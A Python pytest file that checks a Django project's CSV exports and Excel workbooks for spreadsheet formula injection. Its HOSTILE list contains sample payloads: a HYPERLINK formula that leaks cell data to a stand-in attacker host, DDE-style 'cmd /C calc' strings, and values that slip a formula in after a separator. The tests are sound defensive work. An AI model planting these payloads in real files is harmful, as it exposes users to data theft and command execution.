"""Formula injection: no text RBM writes to a workbook or a CSV file becomes a live formula."""

import csv
import io
import re
import zipfile
from io import BytesIO

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from openpyxl import load_workbook

from indicators.models import Result
from indicators.services import result_record
from rbm.cells import csv_value
from reports.builders import ReportDocument
from reports.builders.excel import build as build_excel
from reports.selectors import report_content
from tests.factories import biennium, place
from tests.indicators.entry_helpers import indicator_url, indicator_with_criteria, officer
from tests.reports.conftest import annex, recommendation, seed_000_report  # noqa: F401 (fixtures)

HOSTILE = [
    '=HYPERLINK("https://attacker.example/?leak="&A1,"Open")',
    "safe;=1+1",
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3",
    "Budget line, =1+1",
    "A law was adopted.\n=1+1 people covered",
]


def formulas(content: bytes) -> list[str]:
    """Every formula element in every sheet of an .xlsx file."""
    archive = zipfile.ZipFile(BytesIO(content))
    found = []
    for name in archive.namelist():
        if name.startswith("xl/worksheets/") and name.endswith(".xml"):
            found += re.findall(rb"<f[ >].*?</f>|<f/>", archive.read(name))
    return found


def recorded(user, indicator, name: str, description: str, evidence: str = "") -> Result:
    return result_record(
        user=user,
        indicator=indicator,
        biennium=biennium(),
        place=place(name),
        description=description,
        evidence=evidence,
        criteria_met=[1, 2],
    )


@pytest.mark.parametrize("text", HOSTILE)
def test_csv_cells_get_an_apostrophe_before_a_formula_start_even_after_a_separator(text):
    written = io.StringIO()
    csv.writer(written).writerow([csv_value(text)])

    for delimiter in (",", ";", "\t", "|"):
        for row in csv.reader(io.StringIO(written.getvalue()), delimiter=delimiter):
            for cell in row:
                for line in cell.splitlines():
                    assert not line.lstrip(' "').startswith(("=", "+", "-", "@")), (delimiter, cell)


def test_the_results_csv_of_the_api_neutralises_text_after_a_separator(db):
    indicator = indicator_with_criteria()
    ama = officer("ama", "africa")
    recorded(ama, indicator, "Ghana", "safe;=1+1")
    client = Client()
    client.force_login(ama)

    response = client.get("/api/v1/results/?format=csv")

    assert response.status_code == 200
    assert "safe;'=1+1" in response.content.decode()
    assert "safe;=1+1" not in response.content.decode()


def test_the_indicator_template_holds_hostile_text_as_text_and_gives_it_back_exactly(db):
    indicator = indicator_with_criteria()
    ama = officer("ama", "africa")
    names = ["Ghana", "Togo", "Benin", "Niger", "Mali", "Senegal", "Kenya"]
    for name, text in zip(names, HOSTILE, strict=True):
        recorded(ama, indicator, name, description=text, evidence=text)
    client = Client()
    client.force_login(ama)

    template = client.get(indicator_url(indicator, "upload-template")).content

    assert formulas(template) == []
    sheet = load_workbook(BytesIO(template))["Results"]
    rows = {row[0]: row for row in sheet.iter_rows(min_row=2, values_only=True)}
    assert {name: (rows[name][1], rows[name][2]) for name in names} == {
        name: (text, text) for name, text in zip(names, HOSTILE, strict=True)
    }
    # Uploaded back untouched, the template changes nothing: every text reads back as stored.
    preview = client.post(
        indicator_url(indicator, "upload-create"),
        {"workbook": SimpleUploadedFile("results.xlsx", template)},
        follow=True,
    )
    shown = " ".join(re.sub(r"<[^>]+>", " ", preview.content.decode()).split())
    assert "To create 0 To update 0 Unchanged 7 Rows with errors 0" in shown


def test_the_report_workbook_holds_hostile_text_as_text(seed_000_report, annex):  # noqa: F811 (the fixtures)
    annex.set({"4": [recommendation(text=text, number=number) for number, text in enumerate(HOSTILE, start=1)]})
    content = report_content(biennium=seed_000_report)
    document = ReportDocument(data=content.data, data_read_at=content.data_read_at, content_hash=content.content_hash)

    built = build_excel(document)

    assert formulas(built) == []
    book = load_workbook(BytesIO(built))
    texts = {cell for sheet in book.worksheets for row in sheet.iter_rows(values_only=True) for cell in row}
    assert set(HOSTILE) <= texts
